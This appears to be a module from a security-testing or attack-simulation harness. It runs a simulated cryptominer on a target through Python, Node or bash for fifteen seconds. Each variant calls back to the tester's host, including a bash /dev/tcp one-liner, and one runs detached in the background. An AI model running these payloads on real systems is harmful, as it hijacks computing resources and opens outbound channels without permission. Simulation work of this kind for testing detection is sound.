# SPDX-License-Identifier: Apache-2.0
"""Fifteen seconds of hashing, with a pool to report to every second."""
import time

from attack import Listener, in_background

KIND = "cryptominer-like load"
QUIET = False
SECONDS = 15

PROGRAM = """
import hashlib, os, socket, time
end, n = time.time() + {seconds}, 0
pool = socket.create_connection(("{me}", {port}))
os.nice(10)
while time.time() < end:
    until = time.time() + 1
    while time.time() < until:
        for i in range(2000):
            hashlib.sha256(b"%d" % n).digest()
            n += 1
    pool.sendall(b"share %d\\n" % n)
"""

WORKER = """
const {{ Worker }} = require('worker_threads');
for (let i = 0; i < 2; i++) new Worker(`
  const c = require('crypto'), s = require('net').connect({port}, '{me}');
  let n = 0; const end = Date.now() + {seconds}000;
  const turn = () => {{ const until = Date.now() + 1000; while (Date.now() < until) c.createHash('sha256').update(String(n++)).digest();
    s.write('share ' + n + '\\\\n'); Date.now() < end ? setTimeout(turn, 1) : s.end(); }}; turn();`, {{ eval: true }});
'started'
"""

SHELL = (
    "bash -c 'exec 3>/dev/tcp/{me}/{port}; for i in $(seq {seconds}); do head -c 30000000 /dev/zero | sha256sum >/dev/null;"
    " echo share $i >&3; sleep 0.3; done'"
)


def program(t, port):
    # What the shell starts goes on when the request is over.
    t.run("python3 -c '" + PROGRAM.format(me=t.me, port=port, seconds=SECONDS).replace("'", "'\\''") + "' >/dev/null 2>&1 &")


def worker(t, port):
    t.code(WORKER.format(me=t.me, port=port, seconds=SECONDS))


def shell(t, port):
    in_background(t.run, SHELL.format(me=t.me, port=port, seconds=SECONDS))


SERVICES = {"python": program, "node": worker, "postgres": shell, "ftp": shell}


def attack(t):
    pool = Listener()
    t.how(t, pool.port)
    time.sleep(SECONDS + 3)
    return pool.got.decode().splitlines()[-1] if pool.got else ""
